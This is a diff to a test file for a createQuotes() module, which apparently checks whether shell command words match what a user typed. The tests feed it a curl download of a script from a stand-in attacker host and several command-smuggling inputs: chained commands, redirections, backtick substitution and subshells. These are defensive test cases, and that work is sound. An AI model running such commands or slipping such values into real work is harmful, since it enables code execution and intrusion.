@@ -26,6 +26,28 @@ describe("createQuotes()", () => {
     expect(quotes.quotes(["curl", "https://evil.example/x.sh"])).toBe(false);
   });
 
+  it.each([
+    ["a command with another one behind it", ["npm", "test;", "deploy"]],
+    ["a redirection", ["npm", ">test", "deploy"]],
+    ["a redirection as a word", ["npm", "test", ">", "deploy"]],
+    ["a substitution", ["`npm", "test`"]],
+    ["a subshell", ["(npm", "test)"]],
+    ["a list", ["npm", "test,"]],
+  ])("does not take %s for what was typed", (_, words) => {
+    const quotes = createQuotes();
+    quotes.learn("run npm test deploy now");
+    expect(quotes.quotes(words)).toBe(false);
+  });
+
+  it("quotes a command as it was typed, punctuation of its own included", () => {
+    const quotes = createQuotes();
+    quotes.learn('please run `git commit -m "fix: typo"`, then (npm run build).');
+    expect(quotes.quotes(["npm", "run", "build"])).toBe(true);
+    expect(quotes.quotes(["git", "commit", "-m"])).toBe(true);
+    quotes.learn("run a; b");
+    expect(quotes.quotes(["run", "a;", "b"])).toBe(true);
+  });
+
   it("never quotes words with blanks or nothing at all", () => {
     const quotes = createQuotes();
     quotes.learn("npm run build");
